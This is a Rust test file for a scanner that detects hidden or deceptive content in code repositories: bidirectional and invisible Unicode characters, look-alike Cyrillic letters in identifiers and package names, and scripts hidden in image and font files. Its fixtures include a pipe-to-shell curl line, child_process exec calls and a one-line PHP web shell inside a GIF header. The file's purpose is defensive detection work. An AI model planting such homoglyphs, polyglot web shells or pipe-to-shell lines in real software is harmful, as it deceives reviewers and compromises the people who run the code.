use super::program::PROGRAM;
use super::*;

fn rules(path: &str, text: &str) -> Vec<(&'static str, bool)> {
    let mut all = Vec::new();
    find(path, text.as_bytes(), Weight::Full, &mut all);
    all.iter().map(|h| (h.rule, h.score >= 7.0)).collect()
}

#[test]
fn what_cannot_be_seen_blocks() {
    for (path, text, rule) in [
        ("a.js", "if (admin\u{202e} \u{2066}) {}\n", BIDI),
        ("README.md", "See\u{202e}exe.txt\n", BIDI),
        (
            "a.js",
            "const x = `\u{e0100}\u{e0101}\u{e0102}`;\n",
            INVISIBLE,
        ),
        ("AGENTS.md", "Hello\u{e0041}\u{e0042}\n", INVISIBLE),
        ("a.py", "user\u{200b}name = 1\n", INVISIBLE),
        ("a.js", "const \u{3164} = 1;\n", INVISIBLE),
        ("a.py", "p\u{430}ypal = 1\n", LETTER),
        ("a.py", "\u{430}dm\u{456}n\u{43e}s = 1\n", LETTER),
        ("a.js", "/**/ if (is\u{410}dmin()) {}\n", LETTER),
        ("a.js", ";is\u{410}dmin()\n", LETTER),
        ("a.py", "\u{435}\u{445}\u{435}\u{441} = 1\n", LETTER),
        ("a.js", "\u{435}\u{445}ec(cmd)\n", LETTER),
        ("a.js", "if (environment\u{1c3}=1) {}\n", LETTER),
        ("a.py", "h\u{585}st_name = 1\n", LETTER),
        (
            "package.json",
            "{\"dependencies\": {\"l\u{43e}dash\": \"4\"}}\n",
            LETTER,
        ),
        ("requirements-dev.txt", "d\u{458}ango==4.0\n", LETTER),
        ("a.js", "const isAdmin\u{200d} = true;\n", INVISIBLE),
        (
            "README.md",
            "\u{1f3f4}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e0020}\n",
            INVISIBLE,
        ),
        ("README.md", "a\u{180b}\u{180c}\u{180d}\n", INVISIBLE),
        ("README.md", "a\u{e0200}\u{e0201}\u{e0202}\n", INVISIBLE),
        ("logo.png", "#!/bin/sh\ncurl x | sh\n", PROGRAM),
        (
            "font.woff2",
            "const p = require('child_process'); p.exec('x')\n",
            PROGRAM,
        ),
        (
            "logo.svg",
            "const p = require('child_process'); p.exec('x')\n",
            PROGRAM,
        ),
        ("a.tif", "#! /bin/sh\nid\n", PROGRAM),
        ("a.gif", "GIF89a<?php system($_GET['c']); ?>", PROGRAM),
    ] {
        assert_eq!(rules(path, text), [(rule, true)], "{path} {text:?}");
    }
}

#[test]
fn joiners_too_many_in_a_translation_are_a_slip() {
    let text = "\u{928}\u{200d}\u{200c}\u{200d}\u{200c}\u{200d} ====\n";
    let joined = "==== \u{200c}\u{200c}\u{200c} \u{928}\n";
    assert_eq!(rules("inc/lang/ne/a.txt", joined), [(INVISIBLE, false)]);
    assert_eq!(rules("a/b.txt", joined), [(INVISIBLE, true)]);
    assert!(rules("inc/lang/ne/a.txt", text).iter().all(|r| !r.1));
}

#[test]
fn neither_wrong_bytes_nor_the_length_of_a_file_hide_characters() {
    let bad = |before: &[u8]| [before, "if (admin\u{202e} \u{2066}) {}\n".as_bytes()].concat();
    for (before, expected) in [
        (&b"// caf\xe9, as it was written before UTF-8\n"[..], 1),
        (&[b' '; 5 << 20], 1),
        // No text, so what stands in it is chance.
        (b"\x89PNG\xff\xff\xff", 0),
        (b"\xff\0", 0),
    ] {
        let mut all = Vec::new();
        find("a.js", &bad(before), Weight::Full, &mut all);
        assert_eq!(all.len(), expected, "{:?}", before.get(..9));
    }
}

#[test]
fn what_a_script_or_an_emoji_needs_is_fine() {
    for (path, text) in [
        (
            "a.py",
            "x = '\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{2764}\u{fe0f} 1\u{fe0f}\u{20e3}'\n",
        ),
        (
            "a.py",
            "x = '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}'\n",
        ),
        (
            "fa.json",
            "{\"a\": \"\u{645}\u{6cc}\u{200c}\u{62e}\u{648}\u{627}\u{647}\u{645}\"}\n",
        ),
        (
            "he.json",
            "{\"a\": \"\u{202b}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{202c}\"}\n",
        ),
        (
            "ru.py",
            "x = '\u{41f}\u{440}\u{438}\u{432}\u{435}\u{442}, world'\n",
        ),
        (
            "mail.html",
            format!(
                "<div>News<div>{}</div></div>\n",
                "\u{a0}\u{200c}\u{200b}\u{200d}\u{200e}\u{200f}\u{feff}".repeat(40)
            )
            .as_str(),
        ),
        ("a.py", "\u{feff}import os\n"),
        ("mn.json", "{\"a\": \"\u{1820}\u{180b}\u{1821}\"}\n"),
        ("a.py", "    # \u{43f}\u{440}\u{438} Bob\u{430}\n"),
        ("a.js", "/* Bob\u{430}s */\n"),
        ("logo.png", "\u{89}PNG\r\n"),
        (
            "logo.png",
            "version https://git-lfs.github.com/spec/v1\noid sha256:1\n",
        ),
        ("logo.png", "not found\n"),
        (
            "logo.svg",
            "<svg onload=\"eval(1)\"><script>exec()</script></svg>\n",
        ),
        // The file has text in that script.
        (
            "a.py",
            "x = '\u{421}\u{421}\u{421}\u{420}'\ny = '\u{43b}\u{434}'\n",
        ),
        ("a.js", "const x = 'text\u{200b}';\n"),
    ] {
        assert_eq!(rules(path, text), [], "{path} {text:?}");
    }
}
